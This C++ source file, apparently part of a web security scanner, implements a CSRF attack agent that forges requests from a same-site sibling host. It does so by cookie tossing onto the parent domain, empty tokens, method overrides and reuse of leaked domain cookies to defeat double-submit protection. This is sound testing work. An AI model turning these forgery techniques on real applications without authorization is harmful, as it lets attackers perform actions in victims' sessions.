// csrf-sibling: the attacker has a host on the app's own site. To SameSite his requests are
// same-site, and he can set cookies for the parent domain: so he gives the victim a token's cookie
// of his own choice and sends the matching field (naive double submit). Sec-Fetch-Site says
// "same-site", not "same-origin".
#include <algorithm>

#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/own_form.h"
#include "core/attack/session.h"
#include "core/attack/stolen.h"

namespace parapet::attack {
namespace {

constexpr std::size_t kLikeAToken = 6;  // what is shorter stands in many cookies by chance

class CsrfSibling final : public Agent {
    void run(Target& target) override {
        OwnHost* sibling = sibling_host(target);
        if (sibling == nullptr) return;
        std::vector<Plan> plans;
        std::vector<Endpoint const*> const endpoints = unsafe_endpoints(target);
        std::vector<OwnForm> const forms = look_at_forms(target, endpoints, As::Attacker);
        for (std::size_t i = 0; i < endpoints.size(); ++i) {
            Endpoint const* each = endpoints[i];
            OwnForm const& own = forms[i];
            plans.push_back(plain(target, *each));
            plans.push_back(plain_at(address_otherwise(target, *each), *each, "&"));
            if (!own.tokens.empty()) plans.push_back(with_empty(target, *each, own));
            for (http::QueryPair const& cookie : own.cookies)
                if (!is_session(own, cookie)) {
                    plans.push_back(tossing(target, *each, own, cookie, path_of(target, *each)));
                    plans.push_back(tossing(target, *each, own, cookie, "/"));
                }
        }
        if (!victim_signs_in(target)) return;
        target.wait(std::chrono::minutes(3));
        Lure lure(target, *sibling);
        for (Plan const& each : plans) lure.show(submitting(each.form), each.headers);
        use_what_came_along(target, lure, endpoints, forms);
        target.note("The forged forms came from " + sibling->name() +
                    ", which is the same site as the app.");
    }

    // A cookie of the whole domain has gone to the sibling's pages, too.
    static void use_what_came_along(Target& target, Lure& lure,
                                    std::vector<Endpoint const*> const& endpoints,
                                    std::vector<OwnForm> const& forms) {
        if (endpoints.empty() || forms.front().tokens.empty() || lure.host().received().empty())
            return;
        OwnForm const& own = forms.front();
        std::string const header =
            lure.host().received().front().headers.get("cookie").value_or("");
        for (Credential const& seen : cookies_in(header)) {
            http::QueryPair const cookie{seen.name, seen.value};
            bool const has_one = std::any_of(
                own.cookies.begin(), own.cookies.end(), [&](http::QueryPair const& each) {
                    return each.name == cookie.name && !is_session(own, each);
                });
            if (!has_one) continue;
            Plan plan = plain(target, *endpoints.front());
            for (http::QueryPair const& token : own.tokens)
                plan.form.fields.push_back({token.name, cookie.value});
            lure.show(submitting(plan.form));
            target.note("The cookie \"" + cookie.name + "\" came to " + lure.host().name() +
                        " as well, and with it the token.");
        }
    }

    struct Plan {
        ForgedForm form;
        http::HeaderList headers = {};
    };

    static Plan plain(Target const& target, Endpoint const& endpoint) {
        return plain_at(address_of(target, endpoint), endpoint, "?");
    }

    static Plan plain_at(std::string action, Endpoint const& endpoint, std::string const& sign) {
        if (endpoint.method != "POST") action += sign + "_method=" + endpoint.method;
        return {.form = {.action = std::move(action), .fields = wanted_fields(endpoint)}};
    }

    static Plan with_empty(Target const& target, Endpoint const& endpoint, OwnForm const& own) {
        Plan plan = plain(target, endpoint);
        for (http::QueryPair const& token : own.tokens)
            plan.form.fields.push_back({token.name, ""});
        return plan;
    }

    // The cookie that holds the session is not the one to replace.
    static bool is_session(OwnForm const& own, http::QueryPair const& cookie) {
        if (is_token_name(cookie.name)) return false;
        for (http::QueryPair const& token : own.tokens)
            if (cookie.value == token.value ||
                (token.value.size() >= kLikeAToken &&
                 cookie.value.find(token.value) != std::string::npos))
                return false;
        return true;
    }

    static std::string path_of(Target const& target, Endpoint const& endpoint) {
        return address_of(target, endpoint).substr(app_origin(target).size());
    }

    // For the endpoint's own path it comes before the app's, and for "/" behind it, as the younger
    // (RFC 6265bis 5.8.3): some servers take the first of a name and some the last.
    static Plan tossing(Target& target, Endpoint const& endpoint, OwnForm const& own,
                        http::QueryPair const& cookie, std::string const& path) {
        Plan plan = plain(target, endpoint);
        for (http::QueryPair const& each : own.tokens) plan.form.fields.push_back(each);
        if (own.tokens.empty()) plan.form.fields.push_back(cookie);
        plan.headers.append("set-cookie", cookie.name + "=" + cookie.value +
                                              "; Domain=" + target.surface().host +
                                              "; Path=" + path + "; Secure");
        return plan;
    }
};

}  // namespace

std::unique_ptr<Agent> make_csrf_sibling() { return std::make_unique<CsrfSibling>(); }

}  // namespace parapet::attack
